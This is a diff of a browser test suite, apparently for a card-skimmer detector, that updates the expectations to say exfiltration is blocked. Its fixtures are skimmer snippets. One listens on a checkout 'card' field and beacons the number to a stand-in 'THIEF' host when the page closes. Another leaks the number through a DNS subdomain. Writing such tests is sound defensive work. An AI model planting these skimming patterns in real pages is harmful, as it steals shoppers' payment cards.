@@ -15,20 +15,22 @@ const onLeaving = (work: string) => `addEventListener('pagehide', function bye()
 /** Once, when the whole number stands in the field. */
 const onCard = (work: string) => `{ let done = false; document.getElementById('card').addEventListener('input', async function () {
   const pan = this.value; if (done || pan.replace(/\\D/g, '').length < 16) return; done = true; ${work} }) }`
-const cards = ({ canary }: Watched) => canary.sightings.filter(({ value }) => value === 'card')
+/** Where the card went, beside the shop's own form at the press of its button. */
+const cards = ({ canary }: Watched) =>
+  canary.sightings.filter(({ value, phase, url }) => value === 'card' && !(phase === 'press' && url.endsWith('/pay')))
 
 describe('what leaves with the page', () => {
   it('is found though its address was used before, and though the browser tells nothing of it', async () => {
     const watched = await watchPage(browser, {
       skimmer: `navigator.sendBeacon('http://THIEF/c', 'hello'); ${onLeaving(`navigator.sendBeacon('http://THIEF/c', pan)`)}`,
     })
-    expect(watched.atThief).toContain(`POST /c ${watched.canary.card}`)
-    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost, where: 'body', requestId: null, phase: 'leave', blocked: false }])
+    expect(watched.atThief).toEqual(['GET /t.js ', 'POST /c hello'])
+    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost, where: 'body', requestId: null, phase: 'leave', blocked: true }])
   })
 
   it('is found in the name of a host over https, which nothing else shows', async () => {
     const watched = await watchPage(browser, { skimmer: onLeaving(`navigator.sendBeacon('https://x' + pan + '.thief.localhost:8443/')`) })
-    expect(cards(watched)).toMatchObject([{ host: `x${watched.canary.card}.thief.localhost`, where: 'dns', blocked: false }])
+    expect(cards(watched)).toMatchObject([{ host: `x${watched.canary.card}.thief.localhost`, where: 'dns', blocked: true }])
   })
 
   it('is named as not searched over https, to a host contacted before as well', async () => {
